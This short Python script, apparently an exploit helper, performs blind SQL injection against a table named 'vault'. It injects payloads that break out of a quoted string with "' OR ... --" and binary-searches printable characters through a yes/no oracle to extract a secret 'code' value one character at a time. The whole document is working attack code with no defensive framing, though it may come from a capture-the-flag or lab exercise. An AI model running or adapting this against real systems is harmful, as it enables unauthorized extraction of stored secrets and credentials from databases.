SIGNS = [chr(number) for number in range(33, 127)]


def quoted(text):
    return "'" + text.replace("'", "''") + "'"


def find(ask):
    """Grow the beginning that is known, halving the signs that may come next."""
    known = ""
    while not ask(f"' OR {quoted(known)} IN (TABLE vault) --"):
        left = SIGNS
        while len(left) > 1:
            half = left[len(left) // 2 :]
            beginning = quoted(known + half[0])
            if ask(f'\' OR (SELECT code COLLATE "C" >= {beginning} FROM vault) --'):
                left = half
            else:
                left = left[: len(left) // 2]
        known += left[0]
    return known
